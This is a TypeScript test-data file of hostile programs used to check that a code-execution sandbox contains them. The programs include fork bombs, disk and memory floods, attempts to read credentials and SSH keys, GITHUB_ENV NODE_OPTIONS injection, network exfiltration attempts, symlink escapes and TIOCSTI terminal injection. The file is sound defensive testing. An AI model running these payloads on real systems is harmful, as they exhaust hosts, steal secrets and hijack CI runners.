// The hostile programs of research/anchors.md part C, as data: each case is a
// program, its language and limits, the status and reason a contained run must
// end with, and extra assertions on the outcome. Providers differ in a few
// places (a local sandbox is not a VM); `providers` says where and why. The
// runner of a provider (local.test.ts, e2b.test.ts) adds the invariants
// that hold after every case: nothing alive, nothing written outside the
// workspace, no canary leaked, bounded memory, a well-formed report, and a
// clean next check.

import { expect } from 'vitest';

import type { Limits, Outcome, ProviderName, Reason, Status } from '../../src/types.js';
import { OFFLINE_ENV } from '../../src/engine/check-run.js';

/** What a case may use: its marker, the canaries and the host-side listeners. */
export interface HostileContext {
  /**
   * Unique per case. It is the program's first argument, so every process the
   * check forks carries it in its command line; cases that exec other
   * programs name them with `exec -a MARKER`.
   */
  marker: string;
  canary: {
    value: string;
    /** Files on the host holding the canary (in the home folder, a token file). */
    files: string[];
  };
  host: {
    home: string;
    /** The repository the tests run from. */
    repo: string;
    /** Host folders a check must never write to. */
    writeTargets: string[];
    /** The runner's `GITHUB_ENV`-style command files (set in the test process env). */
    commandFiles: string[];
  };
  /** Servers on the host's loopback and abstract namespace that count every contact. */
  listeners: { tcpPort: number; udpPort: number; abstractName: string; unixPath: string };
}

export interface Expected {
  status: Status;
  /** `undefined`: the outcome carries no reason (a pass). */
  reason?: Reason;
  signal?: string;
  exitCode?: number;
  /** Bounds on the check's own duration, ms. */
  minMs?: number;
  maxMs?: number;
}

export type ProviderNote = (Partial<Expected> & { why: string }) | { skip: string };

export interface HostileCase {
  id: string;
  /** Row of the anchors.md part C table. */
  row: number;
  title: string;
  language: string;
  code(ctx: HostileContext): string;
  limits?: Partial<Limits>;
  stdin?: string;
  /** What a provider that contains the program reports. */
  expect: Expected;
  /** Where a provider reports something else, and why. */
  providers?: Partial<Record<ProviderName, ProviderNote>>;
  /** A process carrying the marker must be alive when the first output arrives (so the after-count can fail). */
  seenAlive?: boolean;
  /** Extra assertions on the outcome (vitest `expect`). */
  verify?(o: Outcome, ctx: HostileContext, provider: ProviderName): void;
}

/** The expectation for one provider, or why the case is skipped there. */
export function expectationFor(c: HostileCase, provider: ProviderName): { expect: Expected; why?: string } | { skip: string } {
  const note = c.providers?.[provider];
  if (note && 'skip' in note) return { skip: note.skip };
  if (!note) return { expect: c.expect };
  const { why, ...over } = note;
  return { expect: { ...c.expect, ...over }, why };
}

const out = (o: Outcome) => o.stdout.head + o.stdout.tail;
const err = (o: Outcome) => o.stderr.head + o.stderr.tail;
const lines = (o: Outcome) => out(o).split('\n').filter(Boolean);
const q = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;

const MiB = 1024 * 1024;

/** Why the disk-filling cases do not run through the E2B emulator. */
const E2B_DISK =
  "not measured per check on E2B: the workspace is on the sandbox VM's own disk (10 GiB in the default template), thrown away with the VM; " +
  "the check ends at ENOSPC or at its deadline. The emulator keeps sandbox files on this machine's disk, so it cannot stand in";

export const HOSTILE_CASES: HostileCase[] = [
  {
    id: 'cpu-spin',
    row: 1,
    title: 'CPU spin after printing',
    language: 'python',
    code: () => 'print("partial", flush=True)\nwhile True: pass',
    limits: { timeoutMs: 1500 },
    expect: { status: 'timed_out', reason: 'timeout', minMs: 1400, maxMs: 5000 },
    verify: (o) => {
      expect(o.stdout.head).toBe('partial\n');
      expect(o.exitCode).toBeUndefined();
    },
  },
  {
    id: 'sleep-forever',
    row: 2,
    title: 'idle: sleeps far past the deadline (only wall time catches it)',
    language: 'python',
    code: () => 'import time\ntime.sleep(1e9)',
    limits: { timeoutMs: 1500 },
    expect: { status: 'timed_out', reason: 'timeout', minMs: 1400, maxMs: 5000 },
  },
  {
    id: 'wait-for-stdin',
    row: 2,
    title: 'waits on stdin, which is empty',
    language: 'python',
    code: () => 'input()\nprint("got a line")',
    limits: { timeoutMs: 10_000 },
    expect: { status: 'failed', reason: 'exit_code', exitCode: 1, maxMs: 4000 },
    verify: (o) => {
      expect(err(o)).toContain('EOFError');
      expect(out(o)).not.toContain('got a line');
    },
  },
  {
    id: 'fork-bomb-bash',
    row: 3,
    title: 'bash fork bomb',
    language: 'bash',
    code: (c) => `exec -a ${c.marker} bash -c ':(){ :|:& };:; sleep 10'`,
    limits: { timeoutMs: 2500, processes: 64 },
    expect: { status: 'timed_out', reason: 'timeout', maxMs: 6000 },
  },
  {
    id: 'fork-loop-python',
    row: 3,
    title: 'python fork loop (every child forks too) until fork fails',
    language: 'python',
    code: () => 'import os, time\nwhile True:\n    os.fork()\n',
    limits: { timeoutMs: 5000, processes: 48 },
    expect: { status: 'failed', reason: 'processes', maxMs: 6000 },
    providers: {
      e2b: {
        reason: 'exit_code',
        why: "`ulimit -u` (the sandbox user's process limit, set from limits.processes) makes fork fail; E2B reports no process-limit hit of its own, so the program's error exit is the outcome",
      },
    },
    verify: (o) => expect(err(o)).toMatch(/BlockingIOError|Resource temporarily unavailable/),
  },
  {
    id: 'memory-balloon-c',
    row: 4,
    title: 'C malloc+memset loop',
    language: 'c',
    code: () =>
      '#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\nint main(void) {\n  size_t total = 0;\n  for (;;) {\n    char *p = malloc(1 << 20);\n    if (!p) { printf("malloc failed after %zu MiB\\n", total >> 20); return 3; }\n    memset(p, 1, 1 << 20);\n    total += 1 << 20;\n  }\n}\n',
    limits: { memoryBytes: 96 * MiB, timeoutMs: 20_000 },
    expect: { status: 'failed', reason: 'memory', maxMs: 10_000 },
    providers: {
      e2b: {
        reason: 'signal',
        signal: 'SIGKILL',
        exitCode: 137,
        why: "memory is the sandbox VM's (2 GiB in the default template), not the check's limit: the VM's OOM killer ends the program with SIGKILL",
      },
    },
    verify: (o, _c, provider) => {
      if (provider === 'e2b') expect(o.message).toBe('killed by SIGKILL (exit status 137)');
      else if (o.reason === 'memory') expect(o.message).toMatch(/over the 96 MiB memory limit/);
      else expect(o.stdout.head).toMatch(/^malloc failed after \d+ MiB\n$/);
    },
  },
  {
    id: 'stdout-flood',
    row: 5,
    title: '100 MB on stdout (yes | head -c 100M)',
    language: 'bash',
    code: () => 'yes | head -c 100M',
    limits: { outputBytes: MiB, timeoutMs: 20_000 },
    expect: { status: 'failed', reason: 'output_limit', maxMs: 6000 },
    verify: (o) => {
      expect(o.message).toMatch(/^stdout went over the 1048576-byte output limit/);
      expect(o.stdout.bytes).toBe(MiB);
      expect(o.stdout.truncated).toBe(true);
      expect(o.stdout.head.length + o.stdout.tail.length).toBeLessThanOrEqual(64 * 1024);
    },
  },
  {
    id: 'stderr-flood',
    row: 6,
    title: '100 MB on stderr',
    language: 'python',
    code: () => 'import sys\nfor _ in range(100): sys.stderr.write("e" * (1 << 20))',
    limits: { outputBytes: MiB, timeoutMs: 20_000 },
    expect: { status: 'failed', reason: 'output_limit', maxMs: 6000 },
    verify: (o) => {
      expect(o.message).toMatch(/^stderr went over/);
      expect(o.stderr.bytes).toBe(MiB);
      expect(o.stdout.bytes).toBe(0);
    },
  },
  {
    id: 'no-trailing-newline',
    row: 7,
    title: 'output without a trailing newline',
    language: 'bash',
    code: () => 'printf abc',
    expect: { status: 'passed' },
    verify: (o) => {
      expect(o.stdout.head).toBe('abc');
      expect(o.stdout.bytes).toBe(3);
    },
  },
  {
    id: 'one-huge-line',
    row: 8,
    title: 'one 50 MB line',
    language: 'python',
    code: () => 'import sys\nsys.stdout.write("x" * 50_000_000)',
    limits: { outputBytes: 64 * MiB, timeoutMs: 20_000 },
    expect: { status: 'passed', maxMs: 10_000 },
    verify: (o) => {
      expect(o.stdout.bytes).toBe(50_000_000);
      expect(o.stdout.truncated).toBe(true);
      expect(o.stdout.head.length + o.stdout.tail.length).toBeLessThanOrEqual(64 * 1024);
    },
  },
  {
    id: 'invalid-utf8-and-nul',
    row: 9,
    title: 'invalid UTF-8 and NUL bytes',
    language: 'python',
    code: () => 'import sys\nsys.stdout.buffer.write(b"\\xff\\xfe\\x00ok\\xc3\\n")',
    expect: { status: 'passed' },
    providers: {
      e2b: {
        why: 'the SDK hands output over as text: each invalid byte arrives as U+FFFD, 3 bytes in UTF-8, so 13 bytes are counted instead of 7 (and the output limit counts them so)',
      },
    },
    verify: (o, _c, provider) => {
      expect(o.stdout.bytes).toBe(provider === 'e2b' ? 13 : 7);
      expect(o.stdout.head).toContain('\uFFFD');
      expect(o.stdout.head).toContain('ok');
    },
  },
  {
    id: 'ansi-osc',
    row: 10,
    title: 'ANSI, OSC and carriage-return overwrite',
    language: 'python',
    code: () => 'print("\\x1b[2J\\x1b]0;owned\\x07\\x1b]8;;http://127.0.0.1/\\x07link\\x1b]8;;\\x07\\rFAKE PASS")',
    expect: { status: 'passed' },
    verify: (o) => expect(o.stdout.head).toContain('FAKE PASS'),
  },
  {
    id: 'workflow-commands',
    row: 11,
    title: 'workflow-command injection',
    language: 'python',
    code: () =>
      [
        'for line in ["::add-mask::e", "::stop-commands::x", "::error file=a,line=1::pwn", "::set-output name=ok::true",',
        '             "##[error]pwn", "::group::fake", "::endgroup::", "::set-env name=NODE_OPTIONS::--require=/tmp/x.js"]:',
        '    print(line)',
      ].join('\n'),
    expect: { status: 'passed' },
    verify: (o) => {
      // Captured as printed; the renderers (src/report) make it inert.
      expect(out(o)).toContain('::add-mask::e\n::stop-commands::x\n');
    },
  },
  {
    id: 'github-env-append',
    row: 12,
    title: 'appends NODE_OPTIONS to $GITHUB_ENV and the runner command files',
    language: 'bash',
    code: (c) =>
      [
        'echo "GITHUB_ENV=${GITHUB_ENV:-unset} GITHUB_OUTPUT=${GITHUB_OUTPUT:-unset} GITHUB_PATH=${GITHUB_PATH:-unset}"',
        `for f in "$GITHUB_ENV" "$GITHUB_OUTPUT" "$GITHUB_PATH" "$GITHUB_STEP_SUMMARY" ${c.host.commandFiles.map(q).join(' ')}; do`,
        '  [ -n "$f" ] || continue',
        '  if echo "NODE_OPTIONS=--require=/tmp/pwn.js" >> "$f" 2>/dev/null; then echo "appended $f"; else echo "refused $f"; fi',
        'done',
      ].join('\n'),
    expect: { status: 'passed' },
    verify: (o, c) => {
      expect(lines(o)[0]).toBe('GITHUB_ENV=unset GITHUB_OUTPUT=unset GITHUB_PATH=unset');
      for (const f of c.host.commandFiles) expect(out(o)).toContain(`refused ${f}`);
    },
  },
  {
    id: 'env-harvest',
    row: 13,
    title: 'printenv and /proc/{self,1,PPID}/environ',
    language: 'bash',
    code: () => 'printenv\nfor p in self 1 $PPID; do tr "\\0" "\\n" < /proc/$p/environ; echo; done\nls /proc | grep -E "^[0-9]+$" | tr "\\n" " "',
    expect: { status: 'passed' },
    providers: {
      e2b: { why: 'envd sets E2B_SANDBOX and E2B_SANDBOX_ID in every sandbox (no secret); nothing of the host is sent' },
    },
    verify: (o, _c, provider) => {
      const names = new Set(lines(o).filter((l) => /^[A-Za-z_][A-Za-z0-9_]*=/.test(l)).map((l) => l.split('=')[0]!));
      if (provider === 'e2b') for (const n of ['E2B_SANDBOX', 'E2B_SANDBOX_ID']) names.delete(n);
      // The tool's own settings for installers in a step without the network.
      for (const n of Object.keys(OFFLINE_ENV)) names.delete(n);
      for (const n of names) expect(n).not.toMatch(/^(GITHUB_|ACTIONS_|INPUT_|RUNNER_|E2B_|SANDBOX_CHECKS_)/);
      expect(names.has('PATH')).toBe(true);
      expect(names.size).toBeLessThan(16);
    },
  },
  {
    id: 'runner-file-read',
    row: 14,
    title: 'reads the runner home, ssh key, git config with the token, /etc/shadow',
    language: 'bash',
    code: (c) =>
      [
        ...[...c.canary.files, `${c.host.home}/.ssh/id_rsa`, `${c.host.home}/.gitconfig`, `${c.host.repo}/.git/config`, '/etc/shadow', '/proc/1/root/etc/shadow']
          .map((f) => `cat ${q(f)} 2>/dev/null && echo "read ${f}" || echo "denied ${f}"`),
        `ls -a ${q(c.host.home)} 2>/dev/null | head -3`,
        `ls ${q(c.host.repo)} 2>/dev/null | head -3`,
      ].join('\n'),
    expect: { status: 'passed' },
    verify: (o, c) => {
      for (const f of c.canary.files) expect(out(o)).toContain(`denied ${f}`);
      expect(out(o)).toContain(`denied ${c.host.repo}/.git/config`);
      expect(out(o)).toContain('denied /etc/shadow');
      expect(out(o)).not.toMatch(/^read /m);
      expect(out(o)).not.toContain('[core]');
    },
  },
  {
    id: 'write-outside',
    row: 15,
    title: 'writes to /usr/bin, /etc, /, host /tmp, /var/tmp, /dev/shm, home, ~/.bashrc, the repository',
    language: 'bash',
    code: (c) =>
      [
        `for d in /usr/bin /usr/local /etc / /tmp /var/tmp /dev/shm /home ${c.host.writeTargets.map(q).join(' ')}; do`,
        `  if echo x > "$d/${c.marker}" 2>/dev/null; then echo "wrote $d"; else echo "refused $d"; fi`,
        'done',
        `if echo "alias ls=${c.marker}" >> ${q(`${c.host.home}/.bashrc`)} 2>/dev/null; then echo "wrote bashrc"; else echo "refused bashrc"; fi`,
        `echo x > ${c.marker} && echo "wrote workspace"`,
      ].join('\n'),
    expect: { status: 'passed' },
    verify: (o, c) => {
      for (const d of ['/usr/bin', '/usr/local', '/etc', '/']) expect(out(o)).toContain(`refused ${d}\n`);
      expect(out(o)).toContain('refused bashrc');
      expect(out(o)).toContain('wrote workspace');
      // /tmp, /var/tmp and /dev/shm are the sandbox's own: writable, thrown away, never the host's.
      for (const d of c.host.writeTargets.filter((t) => !['/tmp', '/var/tmp', '/dev/shm'].includes(t))) {
        expect(out(o)).toContain(`refused ${d}\n`);
      }
    },
  },
  {
    id: 'huge-file',
    row: 16,
    title: 'one 200 MB file (fallocate) past the file-size limit',
    language: 'bash',
    code: () => 'exec fallocate -l 200M big.bin',
    limits: { fileSizeBytes: 16 * MiB },
    expect: { status: 'failed', reason: 'file_size' },
    providers: {
      local: { signal: 'SIGXFSZ', why: 'RLIMIT_FSIZE: the kernel sends SIGXFSZ' },
      e2b: { signal: 'SIGXFSZ', why: '`ulimit -f` in the command\'s shell: the kernel sends SIGXFSZ' },
    },
  },
  {
    id: 'disk-fill',
    row: 16,
    title: 'many files, each under the file-size limit, until the disk is full',
    language: 'python',
    code: () =>
      [
        'chunk = b"x" * (4 << 20)',
        'n = 0',
        'while True:',
        '    with open(f"fill-{n}.bin", "wb") as f:',
        '        for _ in range(3): f.write(chunk)',
        '    n += 1',
        '    if n % 4 == 0: print(n * 12, "MiB", flush=True)',
      ].join('\n'),
    limits: { fileSizeBytes: 16 * MiB, timeoutMs: 30_000 },
    expect: { status: 'failed', reason: 'disk', maxMs: 8000 },
    providers: {
      e2b: { skip: E2B_DISK },
    },
    verify: (o) => {
      // Ended by the workspace quota (local.test.ts sets 64 MiB and 2,000 entries), long before the deadline.
      const written = Math.max(0, ...lines(o).map((l) => Number(l.split(' ')[0]) || 0));
      expect(written).toBeLessThan(2048);
    },
  },
  {
    id: 'inode-fill',
    row: 16,
    title: 'a million empty files',
    language: 'c',
    code: () =>
      [
        '#include <fcntl.h>',
        '#include <stdio.h>',
        '#include <sys/stat.h>',
        '#include <unistd.h>',
        'int main(void) {',
        '  char p[64];',
        '  for (long i = 0; i < 1000000; i++) {',
        '    if (i % 1000 == 0) { snprintf(p, sizeof p, "d%ld", i / 1000); mkdir(p, 0755); }',
        '    snprintf(p, sizeof p, "d%ld/f%ld", i / 1000, i);',
        '    int fd = open(p, O_CREAT | O_WRONLY, 0644);',
        '    if (fd < 0) { perror("open"); return 1; }',
        '    close(fd);',
        '    if (i % 10000 == 0) { printf("%ld files\\n", i); fflush(stdout); }',
        '  }',
        '  puts("created 1000000 files");',
        '  return 0;',
        '}',
      ].join('\n'),
    limits: { timeoutMs: 30_000 },
    // Creating files is slow on a loaded disk (500/s here under load): the bound is the deadline's half.
    expect: { status: 'failed', reason: 'disk', maxMs: 15_000 },
    providers: {
      e2b: { skip: E2B_DISK },
    },
    verify: (o) => expect(out(o)).not.toContain('created 1000000 files'),
  },
  {
    id: 'tmpfs-fill',
    row: 16,
    title: 'fills the sandbox /tmp and /dev/shm (memory-backed)',
    language: 'bash',
    code: () => 'for i in $(seq 40); do head -c 30M /dev/zero > /tmp/fill$i || exit 9; head -c 30M /dev/zero > /dev/shm/fill$i || exit 9; done; echo filled',
    limits: { memoryBytes: 128 * MiB, timeoutMs: 20_000 },
    expect: { status: 'failed', reason: 'memory', maxMs: 10_000 },
    providers: {
      e2b: {
        skip:
          "not per check on E2B: /tmp is on the sandbox VM's disk and /dev/shm is a tmpfs sized from the VM's memory, both thrown away with the VM. " +
          "The emulator's /tmp is a folder on this machine's disk, so it cannot stand in",
      },
    },
    verify: (o) => expect(out(o)).not.toContain('filled'),
  },
  {
    id: 'network-exfiltration',
    row: 17,
    title: 'TCP/UDP out, DNS, and the host loopback',
    language: 'python',
    code: (c) =>
      [
        'import errno, os, socket',
        'def why(e): return errno.errorcode.get(e.errno, str(e.errno))',
        'def tcp(h, p):',
        '    s = socket.socket(); s.settimeout(3)',
        '    try: s.connect((h, p)); return "connected"',
        '    except OSError as e: return why(e)',
        'def udp(h, p):',
        '    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
        '    try: s.sendto(b"exfil", (h, p)); return "sent"',
        '    except OSError as e: return why(e)',
        `print("tcp host-loopback", tcp("127.0.0.1", ${c.listeners.tcpPort}))`,
        // TEST-NET-1 (RFC 5737) is never routed; inside an empty netns nothing is.
        'print("tcp test-net", tcp("192.0.2.1", 80))',
        'print("udp test-net", udp("192.0.2.1", 53))',
        `print("udp host-loopback", udp("127.0.0.1", ${c.listeners.udpPort}))`,
        'try:',
        '    socket.getaddrinfo("exfil.example", 443); print("dns resolved")',
        'except OSError as e: print("dns failed")',
        'print("resolv.conf", os.path.exists("/etc/resolv.conf"))',
        'print("interfaces", " ".join(sorted(l.split(":")[0].strip() for l in open("/proc/net/dev").readlines()[2:])))',
      ].join('\n'),
    expect: { status: 'passed' },
    providers: {
      local: { why: 'an empty network namespace: only lo, not the host loopback' },
    },
    verify: (o, _c, provider) => {
      const text = out(o);
      expect(text).toContain('tcp host-loopback ECONNREFUSED');
      expect(text).toMatch(/tcp test-net (ENETUNREACH|EHOSTUNREACH|ETIMEDOUT|timed out)/);
      expect(text).toMatch(/udp test-net (ENETUNREACH|EHOSTUNREACH|sent)/);
      expect(text).toContain('dns failed');
      if (provider === 'local') {
        expect(text).toContain('udp test-net ENETUNREACH');
        expect(text).toContain('resolv.conf False');
        expect(text).toContain('interfaces lo\n');
      }
    },
  },
  {
    id: 'host-ipc',
    row: 18,
    title: 'host Unix sockets: abstract, a path in the host /tmp, docker.sock, D-Bus',
    language: 'python',
    code: (c) =>
      [
        'import errno, socket',
        'def unix(a):',
        '    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)',
        '    try: s.connect(a); return "connected"',
        '    except OSError as e: return errno.errorcode.get(e.errno, str(e.errno))',
        `print("abstract", unix("\\0${c.listeners.abstractName}"))`,
        `print("path", unix(${JSON.stringify(c.listeners.unixPath)}))`,
        'print("docker", unix("/var/run/docker.sock"))',
        'print("dbus", unix("/run/dbus/system_bus_socket"))',
      ].join('\n'),
    expect: { status: 'passed' },
    verify: (o) => {
      expect(out(o)).toContain('abstract ECONNREFUSED');
      expect(out(o)).toContain('path ENOENT');
      expect(out(o)).toContain('docker ENOENT');
      expect(out(o)).toContain('dbus ENOENT');
    },
  },
  {
    id: 'daemon-double-fork',
    row: 19,
    title: 'double fork + setsid daemon that writes a file later',
    language: 'python',
    code: () =>
      [
        'import os, time',
        'if os.fork() == 0:',
        '    os.setsid()',
        '    if os.fork() == 0:',
        '        time.sleep(30)',
        '        open("late.txt", "w").write("late")',
        '    os._exit(0)',
        'print("parent done", flush=True)',
        'time.sleep(0.5)',
      ].join('\n'),
    expect: { status: 'passed', maxMs: 4000 },
    seenAlive: true,
    verify: (o) => expect(o.stdout.head).toBe('parent done\n'),
  },
  {
    id: 'grandchild-holds-pipe',
    row: 20,
    title: 'a background grandchild keeps stdout open',
    language: 'bash',
    code: (c) => `(exec -a ${c.marker} sleep 600 &); echo done; sleep 0.5`,
    expect: { status: 'passed', maxMs: 4000 },
    seenAlive: true,
    verify: (o) => expect(o.stdout.head).toBe('done\n'),
  },
  {
    id: 'stdout-closed',
    row: 21,
    title: 'closes stdout and stderr, keeps running, then exits 7',
    language: 'python',
    code: () => 'import os, time\nprint("before", flush=True)\nos.close(1)\nos.close(2)\ntime.sleep(1.5)\nos._exit(7)',
    expect: { status: 'failed', reason: 'exit_code', exitCode: 7, minMs: 1400, maxMs: 5000 },
    verify: (o) => expect(o.stdout.head).toBe('before\n'),
  },
  {
    id: 'print-then-sleep',
    row: 22,
    title: 'prints the expected text, then sleeps',
    language: 'python',
    code: () => 'print("expected", flush=True)\nimport time\ntime.sleep(999)',
    limits: { timeoutMs: 1500 },
    expect: { status: 'timed_out', reason: 'timeout', minMs: 1400, maxMs: 5000 },
    verify: (o) => expect(o.stdout.head).toBe('expected\n'),
  },
  {
    id: 'null-deref',
    row: 23,
    title: 'C null dereference',
    language: 'c',
    code: () => 'int main(void) { volatile int *p = 0; *p = 1; return 0; }',
    expect: { status: 'failed', reason: 'signal', signal: 'SIGSEGV', exitCode: 139 },
    verify: (o) => expect(o.message).toBe('killed by SIGSEGV (exit status 139)'),
  },
  {
    id: 'divide-by-zero',
    row: 23,
    title: 'C integer division by zero',
    language: 'c',
    code: () => '#include <stdio.h>\nint main(void) { volatile int a = 7, z = 0; printf("%d\\n", a / z); return 0; }',
    expect: { status: 'failed', reason: 'signal', signal: 'SIGFPE', exitCode: 136 },
  },
  {
    id: 'abort',
    row: 23,
    title: 'C abort()',
    language: 'c',
    code: () => '#include <stdlib.h>\nint main(void) { abort(); }',
    expect: { status: 'failed', reason: 'signal', signal: 'SIGABRT', exitCode: 134 },
  },
  {
    id: 'ignores-sigterm',
    row: 23,
    title: "trap '' TERM; sleep 999",
    language: 'bash',
    code: (c) => `trap '' TERM\necho ready\nexec -a ${c.marker} sleep 999`,
    limits: { timeoutMs: 1500 },
    expect: { status: 'timed_out', reason: 'timeout', minMs: 1400, maxMs: 5000 },
    seenAlive: true,
  },
  {
    id: 'kill-everything',
    row: 24,
    title: 'kill -9 -1; kill $PPID',
    language: 'bash',
    code: () => 'kill -9 -1\necho survived\nkill $PPID 2>/dev/null\necho after\nsleep 0.2',
    // What ends depends on who the sandbox's processes are; the host sentinel must live.
    expect: { status: 'failed' },
    providers: {
      local: {
        reason: 'signal',
        signal: 'SIGKILL',
        why: 'kill -1 reaches every process of the sandbox but its init and the caller: the `sh -c` wrapper dies, so the check reports SIGKILL',
      },
      e2b: {
        reason: 'signal',
        signal: 'SIGKILL',
        exitCode: 137,
        why: 'kill -1 reaches every process of the sandbox user but the caller: the `sh -c` that envd waits for dies, and envd reports "signal: killed". envd itself runs as root and survives',
      },
    },
    verify: (o) => expect(o.stdout.head).toContain('survived'),
  },
  {
    id: 'zombies',
    row: 25,
    title: 'a child exits and the parent never waits',
    language: 'c',
    code: () =>
      [
        '#include <stdio.h>',
        '#include <string.h>',
        '#include <unistd.h>',
        'int main(void) {',
        '  for (int i = 0; i < 20; i++) if (fork() == 0) _exit(0);',
        '  pid_t c = fork();',
        '  if (c == 0) _exit(0);',
        '  usleep(300000);',
        '  char p[64], buf[256] = {0};',
        '  snprintf(p, sizeof p, "/proc/%d/stat", c);',
        '  FILE *f = fopen(p, "r");',
        '  if (f) { fgets(buf, sizeof buf - 1, f); fclose(f); }',
        '  char *s = strrchr(buf, \')\');',
        '  printf("child state %c\\n", s ? s[2] : \'?\');',
        '  return 0;',
        '}',
      ].join('\n'),
    expect: { status: 'passed' },
    verify: (o) => expect(o.stdout.head).toBe('child state Z\n'),
  },
  {
    id: 'deep-recursion-python',
    row: 26,
    title: 'python setrecursionlimit(10**6) and unbounded recursion',
    language: 'python',
    code: () => 'import sys\nsys.setrecursionlimit(10**6)\ndef f(n): return f(n + 1)\nf(0)',
    limits: { timeoutMs: 20_000 },
    expect: { status: 'failed', maxMs: 15_000 },
    providers: {
      local: { reason: 'exit_code', exitCode: 1, why: 'CPython 3.11+ recurses on the heap and raises RecursionError' },
      e2b: {
        reason: 'exit_code',
        exitCode: 1,
        why: "as on the local provider (the emulator runs this machine's Python); 10**6 frames fit in the VM's memory",
      },
    },
  },
  {
    id: 'deep-recursion-c',
    row: 26,
    title: 'C unbounded recursion',
    language: 'c',
    code: () => '#include <stdio.h>\nint f(int n) { volatile char b[256]; b[0] = (char)n; return f(n + 1) + b[0]; }\nint main(void) { printf("%d\\n", f(0)); return 0; }',
    expect: { status: 'failed', reason: 'signal', signal: 'SIGSEGV' },
  },
  {
    id: 'deep-recursion-js',
    row: 26,
    title: 'JavaScript f = () => f()',
    language: 'javascript',
    code: () => 'const f = () => f();\nf();',
    expect: { status: 'failed', reason: 'exit_code', exitCode: 1 },
    verify: (o) => expect(err(o)).toContain('RangeError: Maximum call stack size exceeded'),
  },
  {
    id: 'rlimit-escape',
    row: 27,
    title: 'raises its rlimits (ulimit, prlimit); lowering is allowed',
    language: 'bash',
    code: () =>
      [
        'try() { if (eval "$1") >/dev/null 2>&1; then echo "$2 allowed"; else echo "$2 refused"; fi; }',
        'try "ulimit -t unlimited" "raise cpu"',
        'try "ulimit -f unlimited" "raise fsize"',
        'try "ulimit -n 1048576" "raise nofile"',
        'try "prlimit --pid $$ --nofile=1048576:1048576" "prlimit nofile"',
        'try "prlimit --pid $$ --cpu=unlimited" "prlimit cpu"',
        'try "ulimit -n 64 && test \\$(ulimit -n) = 64" "lower nofile"',
      ].join('\n'),
    expect: { status: 'passed' },
    providers: {
      e2b: {
        why: 'the E2B provider sets no CPU-time rlimit (envd enforces the wall-clock deadline), so "raising" it to unlimited changes nothing; file size and open files are hard limits set by the shell and cannot be raised',
      },
    },
    verify: (o, _c, provider) => {
      const cpu = provider === 'e2b' ? 'allowed' : 'refused';
      expect(lines(o)).toEqual([
        `raise cpu ${cpu}`, 'raise fsize refused', 'raise nofile refused', 'prlimit nofile refused', `prlimit cpu ${cpu}`, 'lower nofile allowed',
      ]);
    },
  },
  {
    id: 'symlink-exfiltration',
    row: 28,
    title: 'symlinks and hard links from the workspace to host files',
    language: 'bash',
    code: (c) =>
      [
        'ln -s /etc/passwd out.txt',
        `ln -s ${q(c.canary.files[0]!)} canary-link`,
        `ln -s ${q(c.host.home)} home-link`,
        'ln -s / root-link',
        'ln -s .. up',
        'mkdir -p sub && ln -s ../../../../.. sub/escape',
        `cat canary-link >/dev/null 2>&1 && echo "followed canary" || echo "canary unreachable"`,
        'ln /etc/passwd hard-link 2>/dev/null && echo "hard link made" || echo "hard link refused"',
        'ls -A | tr "\\n" " "',
      ].join('\n'),
    expect: { status: 'passed' },
    verify: (o) => {
      expect(out(o)).toContain('canary unreachable');
      expect(out(o)).toContain('hard link refused');
      expect(out(o)).toContain('canary-link');
    },
  },
  {
    id: 'toctou-plant',
    row: 29,
    title: 'plants symlinks where the next check writes its files',
    language: 'bash',
    code: () =>
      [
        'rm -f main.sh && ln -s /etc/passwd main.sh',
        'ln -s /etc/passwd main.py; mkdir -p .bin && ln -s /etc/passwd .bin/main',
        'ln -s /etc/passwd /tmp/main.sh; ln -s /etc/passwd /var/tmp/main.sh',
        'echo planted',
      ].join('\n'),
    expect: { status: 'passed' },
    verify: (o) => expect(o.stdout.head).toBe('planted\n'),
  },
  {
    id: 'tiocsti',
    row: 30,
    title: 'TIOCSTI terminal injection',
    language: 'c',
    code: () =>
      [
        '#include <errno.h>',
        '#include <fcntl.h>',
        '#include <stdio.h>',
        '#include <string.h>',
        '#include <sys/ioctl.h>',
        'int main(void) {',
        '  const char *cmd = "echo INJECTED\\n";',
        '  int r = 0;',
        '  for (const char *c = cmd; *c && !r; c++) r = ioctl(0, TIOCSTI, c);',
        '  printf("stdin: %s\\n", r ? strerror(errno) : "injected");',
        '  int t = open("/dev/tty", O_RDWR);',
        '  if (t < 0) { printf("tty: %s\\n", strerror(errno)); return 0; }',
        '  r = ioctl(t, TIOCSTI, "x");',
        '  printf("tty: %s\\n", r ? strerror(errno) : "injected");',
        '  return 0;',
        '}',
      ].join('\n'),
    expect: { status: 'passed' },
    verify: (o) => {
      expect(out(o)).not.toContain('injected');
      expect(out(o)).toMatch(/^stdin: Inappropriate ioctl for device\ntty: (No such device or address|Operation not permitted)\n$/);
    },
  },
  {
    id: 'busy-threads',
    row: 31,
    title: '16 busy threads',
    language: 'c',
    code: () =>
      [
        '#include <pthread.h>',
        '#include <stdio.h>',
        'static void *spin(void *a) { volatile unsigned long x = 0; for (;;) x++; return a; }',
        'int main(void) {',
        '  pthread_t t[16];',
        '  for (int i = 0; i < 16; i++) pthread_create(&t[i], 0, spin, 0);',
        '  puts("spinning"); fflush(stdout);',
        '  pthread_join(t[0], 0);',
        '  return 0;',
        '}',
      ].join('\n'),
    limits: { timeoutMs: 1500 },
    // Wall time or RLIMIT_CPU (2× the timeout, reached early with many cores): both end as a timeout.
    expect: { status: 'timed_out', reason: 'timeout', maxMs: 5000 },
    verify: (o) => expect(o.stdout.head).toBe('spinning\n'),
  },
  {
    id: 'fd-exhaustion',
    row: 32,
    title: 'opens /dev/null a million times',
    language: 'python',
    code: () =>
      'import errno\nfs = []\ntry:\n    for _ in range(10**6): fs.append(open("/dev/null"))\nexcept OSError as e:\n    print("stopped", len(fs), errno.errorcode[e.errno])',
    limits: { openFiles: 256 },
    expect: { status: 'passed' },
    verify: (o) => {
      const m = /^stopped (\d+) (\w+)\n$/.exec(o.stdout.head);
      expect(m, o.stdout.head).not.toBeNull();
      expect(Number(m![1])).toBeLessThan(256);
      expect(m![2]).toBe('EMFILE');
    },
  },
  {
    id: 'nested-namespaces',
    row: 33,
    title: 'unshare -r/-U/-m/-n/-p and a mount inside a new user namespace',
    language: 'bash',
    code: () =>
      [
